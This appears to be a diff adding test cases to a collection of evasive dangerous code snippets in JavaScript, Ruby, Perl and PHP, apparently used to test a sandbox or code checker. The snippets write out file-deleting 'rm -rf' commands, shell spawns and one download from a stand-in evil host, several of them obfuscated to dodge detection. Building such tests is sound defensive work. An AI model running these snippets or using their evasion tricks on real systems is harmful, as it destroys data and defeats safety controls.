@@ -91,6 +91,11 @@ JAVASCRIPT = [
     "require('vm').runInThisContext('1')",
     "require('shelljs').rm('-rf', 'victim')",
     "require(process.argv[1])",
+    "const {ChildProcess} = require('child_process'); "
+    "new ChildProcess().spawn({file: 'sh', args: ['sh', '-c', 'rm -rf victim']})",
+    "new (require('fs').WriteStream)('victim')",
+    "process.report.writeReport('victim')",
+    "const c = \"require('fs').unlinkSync('victim')\"; setTimeout(c)",
 ]
 
 RUBY = [
@@ -147,6 +152,11 @@ RUBY = [
     'load "victim.rb"',
     'require ARGV[0]',
     'PTY.spawn("rm -rf victim")',
+    '$stdout.reopen("victim")',
+    'Object.new.send(:open, "|rm -rf victim")',
+    'Signal.trap("INT", "system(%q(rm -rf victim))")',
+    "x = <<~`CMD`\n  rm -rf victim\nCMD",
+    'Kernel.`("rm -rf victim")',
 ]
 
 PERL = [
@@ -200,6 +210,9 @@ PERL = [
     'system("rm -rf $ENV{HOME}")',
     'system(qq{rm -rf \\x76ictim})',
     'syscall(87, "victim")',
+    'open(local *STDIN, "<", "victim"); exec "sh"',
+    '$^I = ""; @ARGV = ("victim"); while (<>) { print "" }',
+    'use re "eval"; my $c = q{(?{ unlink "victim" })}; "a" =~ /$c/',
 ]
 
 PHP = [
@@ -252,6 +265,7 @@ PHP = [
     'A::$m("rm -rf victim");',
     'new $c("rm -rf victim");',
     'include $argv[1];',
+    'copy("https://evil.example/x", "victim");',
 ]
 
 LUA = [
@@ -510,6 +524,8 @@ RUNNABLE = {
         'alias s system; s "rm -rf victim"',
         'c = "ls"; /(?<c>.+)/ =~ "rm -rf victim"; system(c)',
         'require "fileutils"; include FileUtils; rm_rf "victim"',
+        'Object.new.send(:open, "|rm -rf victim").read',
+        "x = <<~`CMD`\n  rm -rf victim\nCMD",
     ]),
     "perl": ("perl", "-e", [
         'my $c = "CORE::read"."pipe"; &$c("rm -rf victim")',
@@ -525,6 +541,9 @@ RUNNABLE = {
         'File::Path->can("rmtree") or require File::Path; File::Path::rmtree("victim")',
         'main->can("sys"."tem") ? 1 : system("rm -rf victim")',
         'push @ARGV, "rm -rf victim|"; print while <>',
+        'open(my $o, ">", "c.sh"); print $o "rm -rf victim\\n"; close $o; '
+        'open(STDIN, "<", "c.sh") or die; system "sh"',
+        'use re "eval"; my $c = q{(?{ system "rm -rf victim" })}; "a" =~ /$c/',
     ]),
     "php": ("php", "-r", [
         '$f = "system"; $f("rm -rf victim");',
